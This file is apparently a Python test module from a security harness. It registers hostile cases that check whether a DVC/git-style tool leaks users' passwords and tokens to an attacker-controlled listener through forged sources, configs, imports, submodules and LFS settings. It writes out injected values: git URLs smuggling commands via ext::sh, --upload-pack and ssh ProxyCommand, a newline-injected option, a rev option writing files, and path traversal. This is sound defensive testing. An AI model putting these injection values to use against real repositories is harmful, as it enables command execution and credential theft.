"""Addresses of the attacker's, to which the user's passwords and tokens would go."""

from __future__ import annotations

from functools import partial

from attacks.forgery import Forgery
from attacks.kinds import hostile
from attacks.laboratory import STORAGE

ABSENT = "0123456789abcdef0123456789abcdef"  # the hash of data that lies nowhere


def source(run: Forgery, **more: object) -> None:
    run.sources.append({"path": "data/x.csv", "algorithm": "md5", "hash": ABSENT} | more)


def add_source(words: dict[str, str], run: Forgery) -> None:
    address = run.lab.listener.address
    source(run, **{key: value.format(at=address, host=address[7:]) for key, value in words.items()})


SOURCES = {
    "s3-endpoint": {"remote": "s3://bucket/prefix", "endpoint": "{at}"},
    "gs-endpoint": {"remote": "gs://bucket/prefix", "endpoint": "{at}"},
    "azure-endpoint": {"remote": "azure://bucket/prefix", "endpoint": "{at}"},
    "http-wants-password": {"remote": "{at}/wants/store"},
    "http-localhost-in-name": {"remote": "http://localhost@{host}/wants/store"},
    "http-moved": {"remote": "{at}/moved/wants/store"},
    "webdav": {"remote": "webdav://{host}/wants/store"},
    "oss": {"remote": "oss://bucket/prefix", "endpoint": "{at}"},
    "ssh-option": {"remote": "ssh://-oProxyCommand=touch%20x/store"},
    "repo-wants-password": {"repo": "{at}/wants/git/evil", "rev": "main"},
    "repo-moved": {"repo": "{at}/moved/wants/git/evil", "rev": "main"},
    "repo-ext": {"repo": "ext::sh -c touch% {at}", "rev": "main"},
    "repo-option": {"repo": "--upload-pack=touch ran", "rev": "main"},
    "repo-ssh-option": {"repo": "ssh://-oProxyCommand=touch%20ran/x", "rev": "main"},
    "repo-rev-option": {"repo": "{at}/git/evil", "rev": "--output=../canary/file"},
    "repo-subdir-out": {"repo": "{at}/git/evil", "rev": "main", "subdir": "../../.."},
}
for _name, _words in SOURCES.items():
    hostile(f"credentials-source-{_name}", fast=_name == "s3-endpoint")(partial(add_source, _words))


def config_of(run: Forgery, text: str) -> None:
    at = run.lab.listener.address
    run.commit({".dvc/config": text.replace("{at}", at).replace("{host}", at[7:])})
    run.add_data("data/x.csv", ABSENT)


CONFIGS = {
    "endpoint": "[core]\n    remote = s\n['remote \"s\"']\n    url = s3://bucket/x\n"
    "    endpointurl = {at}\n",
    "password-of-a-name": f"[core]\n    remote = {STORAGE}\n['remote \"{STORAGE}\"']\n"
    "    url = {at}/wants/store\n",
    "password-of-a-name-webdav": f"[core]\n    remote = {STORAGE}\n['remote \"{STORAGE}\"']\n"
    "    url = webdav://{host}/wants/store\n",
    "default-only": "[core]\n    remote = s\n['remote \"s\"']\n    url = {at}/wants/store\n"
    "    auth = basic\n",
    "profile": "[core]\n    remote = s\n['remote \"s\"']\n    url = s3://bucket/x\n"
    "    endpointurl = {at}\n    profile = other\n",
    "gs-endpoint": "[core]\n    remote = s\n['remote \"s\"']\n    url = gs://bucket/x\n"
    "    endpointurl = {at}\n",
    "database": "[core]\n    remote = folder\n['database \"d\"']\n    url = sqlite:///{at}\n",
    "remote-of-a-remote": f"[core]\n    remote = s\n['remote \"s\"']\n    url = remote://{STORAGE}/x\n"
    f"['remote \"{STORAGE}\"']\n    url = {{at}}/wants/store\n",
}
for _name, _text in CONFIGS.items():
    hostile(f"credentials-config-{_name}", fast=_name == "password-of-a-name")(
        partial(lambda text, run: config_of(run, text), _text)
    )


@hostile("credentials-git-wants-password", fast=True)
def git_wants_password(run: Forgery) -> None:
    run.commit({"new.txt": "x"})
    run.said["git"] |= {
        "remote_url": f"{run.lab.listener.address}/wants/git/evil",
        "sha": "1" * 40,
    }


@hostile("credentials-git-moved")
def git_moved(run: Forgery) -> None:
    run.said["git"] |= {
        "remote_url": f"{run.lab.listener.address}/moved/wants/git/evil",
        "sha": "1" * 40,
    }


def remote_url(url: str, run: Forgery) -> None:
    run.said["git"] |= {"remote_url": url.format(lab=run.lab.root), "sha": "1" * 40}


URLS = {
    "ext": "ext::sh -c touch% {lab}/ran/ext",
    "option": "--upload-pack=touch {lab}/ran/option",
    "ssh-proxy": "ssh://-oProxyCommand=touch%20{lab}/ran/proxy/x",
    "scp-proxy": "-oProxyCommand=touch {lab}/ran/proxy:x",
    "fd": "fd::17/foo",
    "file": "file:///dev/zero",
    "newline": "http://127.0.0.1:1/x\nupload-pack = touch {lab}/ran/newline",
}
for _name, _url in URLS.items():
    hostile(f"credentials-git-url-{_name}")(partial(remote_url, _url))


@hostile("credentials-import")
def imported(run: Forgery) -> None:
    run.add_import("data/x.csv", f"{run.lab.listener.address}/wants/git/evil", "data/x.csv", ABSENT)


@hostile("credentials-import-config")
def import_with_config(run: Forgery) -> None:
    """The imported repository has a remote of the name of which the user has the password."""
    at = run.lab.listener.address
    text = f"[core]\n    remote = {STORAGE}\n['remote \"{STORAGE}\"']\n    url = {at}/wants/store\n"
    dvc = f"outs:\n- md5: {ABSENT}\n  size: 8\n  path: y.csv\n"
    sha = run.lab.commit({".dvc/config": text, "data/y.csv.dvc": dvc})
    run.add_import("data/x.csv", run.lab.git_url, "data/y.csv", ABSENT)
    name = "data/imported.dvc"
    own = run.said["git"]["sha"].encode()
    run.files[name] = run.files[name].replace(own, sha.encode())


@hostile("credentials-submodule")
def submodule(run: Forgery) -> None:
    at = run.lab.listener.address
    modules = f'[submodule "m"]\n\tpath = m\n\turl = {at}/wants/git/other\n'
    run.lab.commit({".gitmodules": modules})
    run.of_commit(run.lab.commit_objects({"m": ("160000", b"2" * 40)}))


@hostile("credentials-lfs-config")
def lfs_config(run: Forgery) -> None:
    at = run.lab.listener.address
    run.commit(
        {
            ".lfsconfig": f"[lfs]\n\turl = {at}/wants/lfs\n",
            ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
            "x.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:"
            + "a" * 64
            + "\nsize 8\n",
        }
    )
